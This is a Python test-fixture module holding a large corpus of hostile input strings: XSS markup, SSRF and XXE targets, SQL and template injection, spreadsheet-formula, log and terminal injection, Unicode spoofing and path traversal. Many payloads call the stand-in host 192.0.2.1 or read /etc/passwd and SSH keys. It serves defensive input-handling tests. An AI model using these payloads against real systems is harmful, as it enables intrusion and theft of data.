r"""What attackers and broken senders put where a text is expected, in groups; each group says what must be true of it.

One corpus for all: forms, API, alerts, addresses, pages in a browser, exports, logs. A text that is kept comes back as
it was, wherever that is; what else has to hold is its `promises`. Nothing here harms by being kept.

Scripts set `window.owned`; addresses that would load lead to 192.0.2.1, which is nobody's (RFC 5737, section 3);
templates reckon a product that stands nowhere else (`EVALUATED`).
"""

from __future__ import annotations

import os
from enum import StrEnum
from typing import NamedTuple

RUN = "window.owned=true"
"""What a script that got through would do."""
EVALUATED = "9801547"
"""What a template engine would make of 1337*7331."""
BEACON = "192.0.2.1"
TURNS = os.environ.get("HOSTILE", "")
"""How many values go to each place: a number, or “all”, which takes an hour; otherwise as many as a test says."""


class Promise(StrEnum):
    """What must be true, wherever the text goes."""

    INERT = "runs nothing, loads nothing and is no element of a page"
    UNCLICKABLE = "is no address that a click or a form could follow"
    UNFETCHED = "is an address that the server never asks"
    BOUND = "is a value of a statement, never part of its text"
    UNEVALUATED = "is nobody's template"
    NO_FORMULA = "starts no formula in a spreadsheet"
    ONE_LINE = "stays on one line of a log and commands no terminal"
    VISIBLE = "hides nothing and turns nothing that stands beside it"
    COMPARED = "is told from its lookalikes, or counts as the same everywhere"
    WITHIN_RANGE = "is taken for the number or the moment that it is, or is refused"
    NO_KEY = "names nothing of the program's own"
    NO_PLACE = "names no file and no folder of the server"
    REFUSED = "is refused with a sentence that says why"


class HostileText(NamedTuple):
    """A text for any text field."""

    name: str
    text: str
    kept: bool = True
    group: str = ""
    promises: frozenset[Promise] = frozenset()


class Group(NamedTuple):
    """Texts of one kind, by name."""

    promises: tuple[Promise, ...]
    texts: dict[str, str]


MARKUP = {
    "script": f"<script>{RUN}</script>",
    "script in mixed case": f"<ScRiPt >{RUN}</sCrIpT >",
    "script by its address": f"<script src=//{BEACON}/a.js></script>",
    "script of type module": f"<script type=module>{RUN}</script>",
    "script within a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script left open": f"<script>{RUN}//",
    "script that ends a JSON island": f'"}}</script><script>{RUN}</script>',
    "script in a comment of script": f"<!--<script>{RUN}</script>",
    "image with handler": f"<img src=x onerror={RUN}>",
    "image without spaces": f'<img/src="x"/onerror="{RUN}">',
    "image left open": f"<img src=x onerror={RUN} ",
    "image with a line break before the handler": f"<img src=x\nonerror={RUN}>",
    "image beacon": f"<img src=http://{BEACON}/beacon.png>",
    "image with srcset": f"<img srcset='//{BEACON}/b.png 1x'>",
    "SVG": f"<svg/onload={RUN}>",
    "SVG with script": f"<svg><script>{RUN}</script></svg>",
    "SVG animation": f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "SVG link": f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
    "SVG use": f"<svg><use href='//{BEACON}/x.svg#a'></svg>",
    "MathML": f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    "MathML link": f"<math href=javascript:{RUN}>x</math>",
    "parser mix-up": "<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    "style": "<style>*{display:none}</style>",
    "style import": f"<style>@import'//{BEACON}/a.css';</style>",
    "style attribute": f"<p style='position:fixed;inset:0;background:url(//{BEACON}/s.png)'>x</p>",
    "base": f"<base href=http://{BEACON}/>",
    "form": f"<form action=http://{BEACON}/><input name=password></form>",
    "button with an address": f"<button formaction=javascript:{RUN}>x</button>",
    "meta refresh": f"<meta http-equiv=refresh content='0;url=http://{BEACON}/'>",
    "iframe": f"<iframe src=//{BEACON}/></iframe>",
    "iframe with its document": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "object": f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    "embed": f"<embed src=javascript:{RUN}>",
    "video": f"<video><source onerror={RUN}></video>",
    "details that open": f"<details open ontoggle={RUN}>x</details>",
    "input that takes the focus": f"<input autofocus onfocus={RUN}>",
    "body": f"<body onload={RUN}>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "template element": f"<template><script>{RUN}</script></template>",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    "attribute break-out": f"\" autofocus onfocus={RUN} x='",
    "single quote break-out": f"' autofocus onmouseover='{RUN}' x='",
    "backtick break-out": f"` onfocus={RUN} autofocus x=`",
    "comment break-out": f"--><script>{RUN}</script><!--",
    "every text element closed": f"</title></textarea></style></noscript></template></select><script>{RUN}</script>",
    "CDATA": f"<![CDATA[><script>{RUN}</script>]]>",
    "processing instruction": f"<?xml-stylesheet href='javascript:{RUN}'?>",
    "HTMX attributes": f"<div hx-on:load='{RUN}' hx-get='//{BEACON}/' hx-trigger=load>x</div>",
    "HTMX by data": f"<div data-hx-get='//{BEACON}/' data-hx-trigger=load>x</div>",
    "custom element": f"<x-y onclick={RUN} tabindex=1 autofocus onfocus={RUN}>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "entities twice": f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    "numeric entities": f"&#60;img src=x onerror={RUN}&#x3e;",
    "escapes of JavaScript": f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    "escaped percent": f"%3Cscript%3E{RUN}%3C/script%3E",
    "full-width brackets": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
    "UTF-7": f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    "string break-out": f"';{RUN};//",
    "line separator in a string": f"\u2028{RUN}\u2029",
    "Markdown with HTML": f"**a** <img src=x onerror={RUN}>",
    "Markdown fence break-out": f"```\n</code></pre><script>{RUN}</script>\n```",
    "Markdown image": f"![x](http://{BEACON}/beacon.png)",
    "Markdown image break-out": f'![x" onerror="{RUN}](http://{BEACON}/b.png)',
}

ADDRESSES = {
    "JavaScript address": f"javascript:{RUN}",
    "JavaScript address in capitals": f"JaVaScRiPt:{RUN}",
    "JavaScript address with tab": f"java\tscript:{RUN}",
    "JavaScript address with line break": f"java\nscript:{RUN}",
    "JavaScript address after a control character": f"\x01javascript:{RUN}",
    "JavaScript address after a space": f" javascript:{RUN}",
    "JavaScript address in entities": f"&#106;avascript:{RUN}",
    "JavaScript address in long entities": f"&#x6A&#x61&#x76&#x61script:{RUN}",
    "JavaScript address in percent": f"javascript%3A{RUN}",
    "JavaScript address as a comment": f"javascript://{BEACON}/%0a{RUN}",
    "VBScript address": "vbscript:msgbox(1)",
    "data address": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data address with SVG": f"data:image/svg+xml,<svg onload={RUN}>",
    "blob address": "blob:http://192.0.2.1/b0b",
    "file address": "file:///etc/passwd",
    "view-source address": "view-source:javascript:1",
    "address of an application": "ms-word:ofe|u|http://192.0.2.1/a.docx",
    "search of Windows": "search-ms:query=x&crumb=location:\\\\192.0.2.1\\share",
    "address without scheme": f"//{BEACON}/x",
    "address with backslashes": f"\\\\{BEACON}\\x",
    "address with one slash": f"https:/{BEACON}/x",
    "address with a person": f"https://watchfloor.example@{BEACON}/",
    "address with a false host": f"http://{BEACON}\\@watchfloor.example/",
    "address in punycode": "https://xn--80ak6aa92e.example/",
    "address with a dotless host": f"http://{BEACON}。example/",
    "Markdown link": f"[click](javascript:{RUN})",
    "Markdown link in entities": f"[click](java&#115;cript:{RUN})",
    "Markdown link by reference": f"[click][1]\n\n[1]: javascript:{RUN}",
    "Markdown autolink": f"<javascript:{RUN}>",
    "Markdown link with a title": f"[a](http://{BEACON}/ \"x' onclick='{RUN}\")",
    "plain link": f"http://{BEACON}/payload.exe",
}

SSRF = {
    "cloud metadata": "http://169.254.169.254/latest/meta-data/",
    "cloud metadata in one number": "http://2852039166/latest/meta-data/",
    "cloud metadata in IPv6": "http://[::ffff:169.254.169.254]/",
    "cloud metadata by name": "http://metadata.google.internal/computeMetadata/v1/",
    "loopback": "http://127.0.0.1:6379/",
    "loopback, short": "http://127.1/",
    "loopback in octal": "http://0177.0.0.1/",
    "loopback in hexadecimal": "http://0x7f.0x0.0x0.0x1/",
    "loopback in IPv6": "http://[::1]:5432/",
    "loopback as any": "http://0.0.0.0:8000/",
    "loopback by a public name": "http://localtest.me/",
    "loopback in circled digits": "http://①②⑦.⓪.⓪.①/",
    "private network": "http://10.0.0.1/admin",
    "gopher": "gopher://127.0.0.1:6379/_FLUSHALL",
    "dict": "dict://127.0.0.1:11211/stats",
    "ldap": "ldap://127.0.0.1/a",
    "JNDI": "${jndi:ldap://192.0.2.1/a}",
    "FTP": "ftp://127.0.0.1/etc/passwd",
    "jar": "jar:http://192.0.2.1!/a",
    "PHP filter": "php://filter/resource=/etc/passwd",
    "external entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd">%x;]>',
    "XInclude": '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
    "CR LF in an address": "http://192.0.2.1/\r\nX-Injected: yes",
}

SQL = {
    "SQL quote": "'; DROP TABLE alerts_alert; --",
    "always true": "' OR '1'='1",
    "always true, a number": "1 OR 1=1",
    "always true, a comment": "x' OR 1=1--",
    "always true, a bracket": "') OR ('1'='1",
    "double quotes": '" OR ""="',
    "union": "' UNION SELECT password FROM accounts_user--",
    "union of a number": "1 UNION SELECT NULL,NULL,NULL--",
    "stacked": "1; UPDATE accounts_user SET role_id=1; --",
    "sleep": "'; SELECT pg_sleep(10); --",
    "sleep in an expression": "1-(SELECT 1 FROM pg_sleep(10))",
    "error": "' AND 1=CAST((SELECT version()) AS int)--",
    "copy to a program": "'; COPY (SELECT '') TO PROGRAM 'id'; --",
    "dollar quotes": "$$; SELECT 1; $$",
    "escape string": "E'\\047; SELECT 1--",
    "backslash": "\\'; SELECT 1--",
    "comment": "/**/OR/**/1=1",
    "order": "id; SELECT 1",
    "order by a case": "(CASE WHEN (SELECT 1)=1 THEN id ELSE name END)",
    "lookup of Django": "incident__assignee__password__startswith",
    "connector of Django": "_connector",
    "negation of Django": "_negated",
    "key of a JSON": "facts__a' = 1 OR 1=1 --",
    "array": "{1,2,3}",
    "array literal": "ARRAY[1]",
    "percent format": "%s%n%(secret)s",
    "like wildcards": "%_\\%",
    "regular expression": "(a+)+$",
    "regular expression left open": "(?P<x>[",
    "text search": "a & !b | c <-> d:*",
}

TEMPLATES = {
    "Jinja braces": "{{7*7}}",
    "Jinja": "{{1337*7331}}",
    "Jinja with a class": "{{''.__class__.__mro__[1].__subclasses__()}}",
    "Jinja block": "{% if 1 %}{{1337*7331}}{% endif %}",
    "Django tag": "{% load log %}{{ settings.SECRET_KEY }}",
    "Django filter": "{{ 1337|add:9800210 }}",
    "Django debug": "{% debug %}{% include '/etc/passwd' %}",
    "Django partial": "{% partialdef x %}{{ request.user.password }}{% endpartialdef %}{% partial x %}",
    "Twig": "{{_self.env.registerUndefinedFilterCallback('exec')}}{{1337*7331}}",
    "FreeMarker": "<#assign x=1337*7331>${x?c}",
    "Velocity": "#set($x=1337*7331)$x",
    "Mako": "<% x=1337*7331 %>${x}",
    "ERB tag": "<%= 7*7 %>",
    "ERB": "<%= 1337*7331 %>",
    "Smarty": "{math equation='1337*7331'}{php}echo 1;{/php}",
    "Handlebars": "{{#with 'x' as |s|}}{{lookup s 'constructor'}}{{/with}}",
    "Angular": "{{constructor.constructor('window.owned=true')()}}",
    "Thymeleaf": "__${1337*7331}__::.x",
    "shell expansion": "${7*7}$(id)`id`",
    "expression language": "${1337*7331}",
    "hash braces": "#{7*7}",
    "hash braces, large": "#{1337*7331}",
    "format of Python": "{0.__class__.__init__.__globals__}",
    "format of Python, a key": "{subject.__class__}",
    "f-string": "{1337*7331}",
    "format that breaks": "{",
    "format with an empty field": "{}{!r:>99999999}",
}

FORMULAS = {
    "spreadsheet command": "=cmd|' /C calc'!A0",
    "spreadsheet link": '=HYPERLINK("http://192.0.2.1/?"&A1,"click")',
    "spreadsheet web service": '=WEBSERVICE("http://192.0.2.1/")',
    "spreadsheet import": '=IMPORTXML("http://192.0.2.1/","//a")',
    "spreadsheet plus": "+1+1",
    "spreadsheet plus command": "+cmd|' /C calc'!A0",
    "spreadsheet minus": "-2+3",
    "spreadsheet at": "@SUM(1,1)",
    "tab first": "\t=1+1",
    "line break first": "\n=1+1",
    "carriage return first": "\r=1+1",
    "space first": " =1+1",
    "no-break space first": "\u00a0=1+1",
    "zero-width space first": "\u200b=1+1",
    "byte order mark first": "\ufeff=1+1",
    "full-width equals": "\uff1d1+1",
    "full-width plus": "\uff0b1+1",
    "small equals": "\ufe661+1",
    "formula after a separator": 'x",=1+1,"',
    "formula after a semicolon": "x;=1+1",
    "formula after a line break": "x\n=1+1",
    "array formula": "{=1+1}",
}

LOG_LINES = {
    "newline and a false log line": "x\r\n2026-01-01 INFO sign-in succeeded user=admin",
    "newline and false JSON": 'x"}\n{"level":"info","event":"sign-in","user":"admin"}',
    "carriage return": "real\rfalse",
    "vertical tab and form feed": "a\x0bb\x0cc",
    "next line": "a\x85b",
    "line separator": "a\u2028b\u2029c",
    "record separators": "a\x1cb\x1dc\x1ed",
    "terminal escapes": "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
    "terminal link": "\x1b]8;;http://192.0.2.1/\x1b\\click\x1b]8;;\x1b\\",
    "terminal clipboard": "\x1b]52;c;b3duZWQ=\x07",
    "C1 controls": "a\x80\x9b31mb",
    "backspaces": "evil\b\b\b\bgood",
    "delete": "a\x7fb",
    "percent line break": "a%0d%0aX-Injected:%20yes",
    "syslog priority": "<34>1 2026-01-01T00:00:00Z host su - - - x",
}

DIRECTION = {
    "right-to-left override": "invoice\u202egpj.exe",
    "right-to-left embedding": "a\u202bb\u202cc",
    "direction isolates": "\u2066a\u2067b\u2068c\u2069",
    "isolate left open": "\u2067never closed",
    "right-to-left mark": "a\u200fb\u061cc",
    "Hebrew": "שלום.exe",
    "Arabic with digits": "فاتورة 123 exe.",
    "zero-width characters": "ad\u200bmin\u200d\u2060",
    "zero-width joiners": "a\u200cb\u200dc",
    "byte order mark inside": "a\ufeffb",
    "soft hyphen": "ad\u00admin",
    "invisible tags": "x\U000e0061\U000e0062\U000e007f",
    "variation selectors": "a\ufe0fb\U000e0100",
    "Hangul filler": "\u3164\u115f",
    "invisible operators": "a\u2061\u2062\u2063b",
    "combining flood": "z" + "\u0335\u0336\u0337" * 60,
    "interlinear annotation": "a\ufff9b\ufffac\ufffb",
}

EQUALITIES = {
    "kelvin sign": "\u212aelvin",
    "Turkish dotless i": "ad\u0131min \u0130",
    "full-width letters": "\uff41\uff44\uff4d\uff49\uff4e",
    "sharp s": "stra\u00dfe",
    "ligature": "\ufb01le",
    "composed": "caf\u00e9",
    "decomposed": "cafe\u0301",
    "Cyrillic lookalikes": "\u0430dmin",
    "Greek final sigma": "\u03c3\u03c2\u03a3",
    "long s": "\u017fystem",
    "superscript": "admin\u00b2",
    "mathematical letters": "\U0001d41a\U0001d41d\U0001d426\U0001d422\U0001d427",
    "circled letters": "\u24d0\u24d3\u24dc\u24d8\u24dd",
    "ohm sign": "\u2126hm",
    "emoji with modifiers": "\U0001f9d1\U0001f3fd\u200d\U0001f4bb",
    "private use": "\ue000\U000f0000",
    "noncharacter U+FFFF": "a\uffffb",
    "replacement character": "a\ufffdb",
    "no-break and ideographic spaces": "a\u00a0b\u3000c",
}

NUMBERS = {
    "the word null": "null",
    "minus one": "-1",
    "minus nought": "-0",
    "33 bits": "4294967296",
    "63 bits": "9223372036854775807",
    "64 bits": "9223372036854775808",
    "thirty digits": "1" + "0" * 30,
    "five thousand digits": "9" * 5_000,
    "not a number": "NaN",
    "infinity": "-Infinity",
    "huge exponent": "1e400",
    "hexadecimal": "0x10",
    "octal": "010",
    "underscores": "1_000",
    "Arabic digits": "\u0661\u0662\u0663",
    "full-width digits": "\uff11\uff12",
    "superscript digit": "\u00b2",
    "comma": "1,5",
    "spaces around": " 1 ",
    "true": "true",
    "an array": "[1]",
    "an object": '{"$ne": null}',
}

TIMES = {
    "year nought": "0000-01-01T00:00:00Z",
    "year one": "0001-01-01T00:00:00Z",
    "year ten thousand": "10000-01-01T00:00:00Z",
    "last moment": "9999-12-31T23:59:59Z",
    "before the epoch": "1969-12-31T23:59:59Z",
    "30th of February": "2026-02-30T00:00",
    "24 o'clock": "2026-01-01T24:00",
    "leap second": "2026-06-30T23:59:60Z",
    "offset of a day": "2026-01-01T00:00:00+24:00",
    "Arabic year": "\u0662\u0660\u0662\u0666-01-01T00:00",
    "hour that does not exist": "2026-03-29T02:30",
    "huge time of seconds": "99999999999999999999",
    "endless range": "0001-01-01..9999-12-31",
    "range of ages": "999999999999999999d",
}

KEYS = {
    "prototype name": "__proto__",
    "constructor": "constructor",
    "prototype path": "constructor.prototype.owned",
    "prototype in brackets": "__proto__[owned]",
    "own method": "hasOwnProperty",
    "to string": "toString",
    "class of Python": "__class__",
    "dictionary of Python": "__dict__",
    "name of HTMX": "hx-get",
    "name of a form's method": "submit",
    "token of forms": "csrfmiddlewaretoken",
    "primary key": "pk",
}

PATHS = {
    "path upwards": "../../../../etc/passwd",
    "path upwards in percent": "..%2f..%2f..%2fetc%2fpasswd",
    "path upwards twice encoded": "%252e%252e%252fetc",
    "path upwards in backslashes": "..\\..\\windows\\win.ini",
    "path upwards, doubled": "....//....//etc/passwd",
    "path upwards in full width": "\uff0e\uff0e\uff0fetc",
    "absolute path": "/etc/passwd",
    "own environment": "/proc/self/environ",
    "UNC path": "\\\\192.0.2.1\\share\\x",
    "device of Windows": "CON.txt",
    "stream of Windows": "a.txt::$DATA",
    "drive of Windows": "C:\\boot.ini",
    "dot": ".",
    "two dots": "..",
    "hidden file": ".htaccess",
    "trailing dot": "a.exe.",
    "double extension": "invoice.pdf.exe",
    "header break-out": 'a"; filename="b.exe',
    "option of a program": "--output=/tmp/x",
    "home": "~root/.ssh/id_rsa",
}

PLAIN = {
    "one character": "x",
    "255 characters": "x" * 255,
    "256 characters": "x" * 256,
}

NOT_TEXT = {
    "NUL": "a\0b",
    "lone high surrogate": "a\ud800b",
    "lone low surrogate": "\udfffb",
    "ten megabytes": "x" * 10_000_000,
}

GROUPS = {
    "markup": Group((Promise.INERT,), MARKUP),
    "addresses": Group((Promise.INERT, Promise.UNCLICKABLE, Promise.UNFETCHED), ADDRESSES),
    "targets": Group((Promise.UNFETCHED, Promise.UNCLICKABLE), SSRF),
    "SQL": Group((Promise.BOUND,), SQL),
    "templates": Group((Promise.UNEVALUATED,), TEMPLATES),
    "formulas": Group((Promise.NO_FORMULA,), FORMULAS),
    "log lines": Group((Promise.ONE_LINE,), LOG_LINES),
    "direction": Group((Promise.VISIBLE,), DIRECTION),
    "equalities": Group((Promise.COMPARED,), EQUALITIES),
    "numbers": Group((Promise.WITHIN_RANGE,), NUMBERS),
    "times": Group((Promise.WITHIN_RANGE,), TIMES),
    "keys": Group((Promise.NO_KEY,), KEYS),
    "paths": Group((Promise.NO_PLACE, Promise.UNFETCHED), PATHS),
    "plain": Group((), PLAIN),
    "no text": Group((Promise.REFUSED,), NOT_TEXT),
}

TEXTS = tuple(
    HostileText(name, text, Promise.REFUSED not in group.promises, kind, frozenset(group.promises))
    for kind, group in GROUPS.items()
    for name, text in group.texts.items()
)
KEPT = tuple(each for each in TEXTS if each.kept)
BY_NAME = {each.name: each for each in TEXTS}


def that_are(promise: Promise) -> tuple[HostileText, ...]:
    """All that this must be true of."""
    return tuple(each for each in TEXTS if promise in each.promises)


def turn(place: int, number: int) -> tuple[HostileText, ...]:
    """The values whose turn it is at the place-th of many places, `number` of them, from groups as different as can be:
    the same each time, and each value somewhere once there are places enough. HOSTILE in the environment says more."""
    if TURNS:
        number = len(KEPT) if TURNS == "all" else int(TURNS)
    return tuple(MIXED[(place * number + step) % len(MIXED)] for step in range(number))


def _mixed() -> tuple[HostileText, ...]:
    """All that is kept, with neighbours of different groups."""
    placed = []
    for group in GROUPS.values():
        texts = [BY_NAME[name] for name in group.texts if BY_NAME[name].kept]
        placed += [((place + 0.5) / len(texts), text) for place, text in enumerate(texts)]
    return tuple(text for _, text in sorted(placed, key=lambda each: each[0]))


MIXED = _mixed()
